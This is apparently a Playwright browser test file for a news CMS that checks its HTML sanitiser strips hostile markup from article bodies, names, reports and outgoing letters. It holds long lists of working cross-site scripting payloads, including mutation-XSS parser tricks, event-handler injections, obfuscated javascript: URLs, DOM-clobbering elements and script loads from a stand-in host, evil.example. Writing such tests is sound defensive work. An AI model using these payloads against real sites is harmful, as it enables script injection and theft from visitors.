"""Hostile text in a real browser that runs whatever it is given: nothing that a stranger typed is ever more than text.

The browser is told to ignore the site's policy, so that the sanitiser is tested and not the second line behind it.
"""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from articles.models import Article, Section
from cms.worker import run_until_idle
from tests.browser.steps import sign_in
from tests.factories import make_article, make_editor, make_report, make_story
from tests.test_text import ATTACKS

pytestmark = [
    pytest.mark.browser,
    pytest.mark.django_db(transaction=True),
    pytest.mark.browser_context_args(bypass_csp=True),
]
BAD = "<img src=x onerror=alert(1)>"
MUTATIONS = [  # Texts that a parser reads one way, and its own output another way.
    f"<math><mtext><table><mglyph><style><math><table id='</table>'>{BAD}",
    "<math><mtext><mglyph><style><!--</style><p title='--&gt;&lt;/mglyph&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    f"<svg></p><style><a id='</style>{BAD}'>",
    f"<svg><foreignObject><p><style><!--</style><p title='--&gt;{BAD}'></foreignObject></svg>",
    f"<svg><desc><style><p title='</style>{BAD}'></desc></svg>",
    f"<math><annotation-xml encoding='text/html'><style><p title='</style>{BAD}'></annotation-xml></math>",
    f"<noscript><style></noscript>{BAD}</style>",
    f"<noscript><p title='</noscript>{BAD}'>",
    f"<form><div></form><form id=x><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>{BAD}'>",
    f"<template><template></template><style></template>{BAD}</style></template>",
    f"<select><option><style></select>{BAD}</style>",
    f"<table><tr><td><svg><desc></table>{BAD}",
    f"<p><table><caption><svg><title><style></title>{BAD}</style></caption></table>",
    f"<textarea></textarea>{BAD}</textarea>",
    f"<title></title>{BAD}</title>",
    f"<xmp></xmp>{BAD}</xmp>",
    f"<noembed></noembed>{BAD}</noembed><noframes></noframes>{BAD}</noframes>",
    f"<plaintext>{BAD}",
    f"<![CDATA[<p>]]>{BAD}]]>",
    f"<svg><![CDATA[</svg>{BAD}]]></svg>",
    f"<!--><p>{BAD}-->",
    f"<!-- --!><p>{BAD}<!-- -->",
    f"<!-- a <!-- b --> {BAD} -->",
    f"<?xml version='1.0'?>{BAD}<!doctype html []>{BAD}",
    f"<a title='`'>{BAD}</a><p title=`<{BAD}`>",
    f'<p title="{BAD}" foo=\'">\'>x</p>',
    f"{'<div>' * 600}{BAD}{'</div>' * 600}",
    f"<b><i><u>{'<font>' * 40}{BAD}<table><td>{BAD}</b></i>{BAD}",
]
RUNNING = [
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<p tabindex=0 autofocus onfocus=alert(1)>x</p>",
    "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'/>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<img srcset='https://evil.example/a 1x, https://evil.example/b 2x' src='//evil.example/c'>",
    "<picture><source srcset=https://evil.example/d><img src=x></picture>",
    "<video poster=https://evil.example/e src=https://evil.example/f autoplay onplay=alert(1)></video>",
    "<input type=image src=https://evil.example/g formaction=javascript:alert(1)>",
    "<button formaction=javascript:alert(1)>x",
    "<form action=https://evil.example/h id=forms><input name=getElementById><input name=body></form>",
    "<a id=config href=https://evil.example/i>x</a><a id=config name=url href=https://evil.example/j>x</a>",
    "<img name=createElement><img name=cookie><iframe name=top></iframe><embed name=documentElement>",
    "<link rel=stylesheet href=https://evil.example/k.css><link rel=prefetch href=https://evil.example/l>",
    "<link rel=dns-prefetch href=//evil.example><a ping=https://evil.example/m href=https://example.org/>x</a>",
    "<meta http-equiv='refresh' content='0; url=data:text/html,<script>alert(1)</script>'>",
    "<base target=_top href='//evil.example/'><a href='/n'>x</a>",
    "<style>@import 'https://evil.example/o.css'; * { background: url(https://evil.example/p) }</style>",
    "<p style='background: url(//evil.example/q); width: expression(alert(1)); behavior: url(//evil.example/r)'>x</p>",
    "<body background=https://evil.example/s onload=alert(1)><table background=https://evil.example/t><td>x</table>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<marquee onstart=alert(1)>x</marquee><bgsound src=https://evil.example/u>",
    '<p x-data="{}" x-init="alert(1)" @click="alert(1)" v-on:click="alert(1)" :onclick="alert(1)">{{x}}</p>',
    "<p ng-app ng-csp hx-get=https://evil.example/v hx-trigger=load>{{$on.constructor('alert(1)')()}}</p>",
    "<p slot=x is=x-y part=z contenteditable inert popover hidden aria-hidden=true role=alert dir=rtl lang=xx>x</p>",
    "<script type=importmap>{}</script><script src=//evil.example/w></script><SCRIPT\n>alert(1)</SCRIPT >",
    "<object data=data:text/html,<script>alert(1)</script>><param name=movie value=//evil.example/x></object>",
    "<portal src=https://evil.example/y></portal><dialog open>x</dialog><x-y onclick=alert(1)>x</x-y>",
]
URLS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "&#106;avascript:alert(1)", "&#x6A&#x61&#x76;ascript&colon;alert(1)",
    "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "\x01javascript:alert(1)", "java\x00script:alert(1)",
    "\u00a0javascript:alert(1)", "\u200bjavascript:alert(1)", "jav\u00adascript:alert(1)", "javascript\u003aalert(1)",
    "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg/>",
    "blob:https://example.org/x", "file:///etc/passwd", "filesystem:x", "view-source:x", "about:blank",
    "feed:javascript:alert(1)", "http:javascript:alert(1)//", "//evil.example/z", "/\\evil.example", "\\\\evil.example",
    "https:evil.example", "https://example.org@evil.example/", "?a=<script>alert(1)</script>",
    "#\" onmouseover=alert(1) x=\"", "intent:x#Intent;end",
    "%6Aavascript:alert(1)", "javascript&#58;alert(1)", "&#0000106&#0000097vascript:alert(1)", "ｊavascript:alert(1)",
]  # fmt: skip
LINKS = ["".join(f'<a href="{url}" target=_top download rel=opener>x</a><p>x</p>' for url in URLS)]

# Everything that an article's body may hold, as the browser sees it.
ALLOWED = {"a": {"href", "title", "rel"}, "ol": {"start"}, "th": {"colspan", "rowspan", "scope"}}
ALLOWED |= {"td": {"colspan", "rowspan"}, "table": {"tabindex"}}
STRUCTURE = {
    "p", "h2", "h3", "h4", "ul", "ol", "li", "blockquote", "strong", "em", "s", "sub", "sup", "code", "pre", "a", "br",
    "hr", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
PROTOCOLS = {"http:", "https:", "mailto:"}
DOM_OF = """(box) => [...box.querySelectorAll('*')].map((element) => ({
    tag: element.tagName.toLowerCase(),
    plain: element.namespaceURI === 'http://www.w3.org/1999/xhtml',
    attributes: element.getAttributeNames(),
    protocol: element.href === undefined ? '' : element.protocol,
}))"""
# A body is parsed outside of the page, printed by the browser, and parsed again: it must come out as it went in.
PARSED_AGAIN = f"""(html) => {{
    const parsed = (text) => {{
        const box = document.createElement('div');
        box.innerHTML = text;
        return box;
    }};
    const once = parsed(html), twice = parsed(once.innerHTML), thrice = parsed(twice.innerHTML);
    return {{ same: once.isEqualNode(twice) && once.isEqualNode(thrice), dom: ({DOM_OF})(thrice) }};
}}"""
TWO_FRAMES = "() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done))))"


HOSTILE = f"\u202e\"'></title></textarea>{BAD} {{{{7*7}}}} %(item)s"
SHORT = f"\"'>{BAD}"
SOURCES = [f"https://example.org/?\"'>{BAD}", "javascript:alert(1)"]
RUNNING_THINGS = """() => [...document.querySelectorAll('*')]
    .filter((element) => element.getAttributeNames().some((name) => name.startsWith('on'))
        || element.getAttribute('src') === 'x' || element.protocol === 'javascript:')
    .map((element) => element.outerHTML)"""


@pytest.fixture
def dialogs(page):
    """The messages of the dialogs that scripts have opened."""
    opened = []

    def note(dialog) -> None:
        opened.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", note)
    return opened


def faults_in(dom: list[dict], more: dict[str, set[str]] | None = None) -> list[str]:
    """What is in a body that may not be there; `more` are the attributes that the page itself puts in, by tag."""
    found, allowed = [], ALLOWED | (more or {})
    for element in dom:
        tag, extra = element["tag"], set(element["attributes"]) - allowed.get(element["tag"], set())
        if tag not in STRUCTURE or not element["plain"]:
            found.append(f"element {tag}")
        if extra:
            found.append(f"{tag} has {sorted(extra)}")
        if "href" in element["attributes"] and element["protocol"] not in PROTOCOLS:
            found.append(f"link to {element['protocol']}")
    return found


def test_the_trap_itself_works(page, site, dialogs):
    page.goto(f"{site}/en/")
    with page.expect_event("dialog"):
        page.locator("main").evaluate("(main, html) => { main.innerHTML = html }", BAD)
    assert dialogs == ["1"]
    assert faults_in(page.locator("main").evaluate(DOM_OF)) == ["element img", "img has ['onerror', 'src']"]
    assert len(page.evaluate(RUNNING_THINGS)) == 1


@pytest.mark.parametrize("attacks", [ATTACKS, MUTATIONS, RUNNING, LINKS], ids=["known", "mutating", "running", "links"])
def test_a_body_is_structure_and_nothing_else(page, site, dialogs, attacks):
    faults = []
    for number, attack in enumerate(attacks):
        article = make_article(headline=f"Attack {number}", body=f"<p>before</p>{attack}<p>after</p>")
        faults += [f"{attack!r}: {fault}" for fault in faults_on(page, site + article.get_absolute_url(), article)]
    assert faults == []
    assert dialogs == []


def faults_on(page: Page, address: str, article: Article) -> list[str]:
    """What the article's body does to the page at its address, and in any other place where it is put."""
    page.goto(address)
    page.evaluate(TWO_FRAMES)
    found = faults_in(page.locator("main article .text").evaluate(DOM_OF), {"h2": {"id"}, "h3": {"id"}})
    again = page.evaluate(PARSED_AGAIN, article.body)
    page.evaluate(TWO_FRAMES)
    found += faults_in(again["dom"])
    if not again["same"]:
        found.append("is read differently the second time")
    if page.url != address or page.locator("h1").inner_text() != article.headline:
        found.append("the page is another one")
    return found


def test_what_cannot_be_seen_is_not_printed(page, site):
    unseen = "pay \u202egpj.exe\u202c in\u200bvi\u2060si\ufeffble \u2066isolated\u2069 so\u00adft\u0007"
    article = make_article(headline=unseen, dek=unseen, byline=unseen, body=f"<p>{unseen}</p>")
    page.goto(site + article.get_absolute_url())
    for place in ("h1", "main .dek", "main .meta b", "main .text"):
        assert page.locator(place).first.text_content().strip() == "pay gpj.exe invisible isolated soft"


def test_lines_and_notes_are_inert_wherever_they_are_shown(page, site, dialogs):
    user = make_editor(first_name=SHORT, last_name="Xu")
    section = Section.objects.create(slug="hostile", name_en=SHORT, name_zh_hans=SHORT)
    texts = {"headline": HOSTILE, "dek": HOSTILE, "byline": HOSTILE, "section": section, "sources": SOURCES}
    article = make_article(tags=(SHORT,), editor_name=SHORT, cover_alt=HOSTILE, origin="reader", **texts)
    story = make_story(**texts)
    wrong = dict.fromkeys(("name", "for_organisation", "address", "phone", "work", "explanation", "signature"), SHORT)
    report = make_report(article, statements=[HOSTILE], **wrong)
    story.ask_changes(by=user, reason=HOSTILE)
    waiting = make_story(**texts)
    run_until_idle()
    sign_in(page, site, user)
    paths = [
        "/en/", "/en/section/hostile/", article.tags.first().get_absolute_url(), article.get_absolute_url(),
        f"/en/receipt/{story.code}/", f"/en/receipt/{waiting.code}/?new", f"/en/copyright/case/{report.code}/",
        "/admin/desk/", f"/admin/submissions/story/{story.pk}/change/", f"/admin/articles/article/{article.pk}/change/",
        f"/admin/copyright/copyrightreport/{report.pk}/change/", "/admin/articles/article/",
        "/admin/submissions/story/", "/admin/copyright/copyrightreport/", "/admin/cms/decision/", "/admin/cms/user/",
    ]  # fmt: skip
    assert {path: found for path in paths if (found := running_on(page, site + path))} == {}
    report.refresh_from_db()  # opening its page has claimed it
    report.uphold(by=user, reason=HOSTILE)
    run_until_idle()
    paths = [article.get_absolute_url(), f"/en/copyright/case/{report.code}/"]
    assert {path: found for path in paths if (found := running_on(page, site + path))} == {}
    assert "onerror" in message_of_a_claim(page, f"{site}/admin/submissions/story/{waiting.pk}/change/")
    assert sum(letter_quotes(page, address) for address in letters(page, site)) == 3
    assert dialogs == []


def running_on(page: Page, address: str) -> list[str]:
    """What on a page comes of hostile text, which must be there to be read."""
    page.goto(address)
    page.evaluate(TWO_FRAMES)
    found = page.evaluate(RUNNING_THINGS)
    return found if "onerror=alert(1)" in page.content() else [*found, "does not show the text"]


def message_of_a_claim(page: Page, address: str) -> str:
    """What the desk says of a story when its button was pressed."""
    page.goto(address)
    page.locator("#move-release button").click()  # opening the page has claimed it
    message = page.locator(".messagelist li")
    expect(message).to_be_visible()
    assert page.evaluate(RUNNING_THINGS) == []
    return message.inner_text()


def letters(page: Page, site: str) -> list[str]:
    """The addresses of all letters in the outbox."""
    page.goto(f"{site}/outbox/")
    return [site + link.get_attribute("href") for link in page.locator("main li a").all()]


def letter_quotes(page: Page, address: str) -> bool:
    """Whether a letter, as a mail reader shows it, holds hostile text. Nothing of it may run there or in the outbox."""
    for shown in (address, f"{address}html/"):
        page.goto(shown)
        page.evaluate(TWO_FRAMES)
        assert page.evaluate(RUNNING_THINGS) == []
    return "onerror=alert(1)" in page.content()
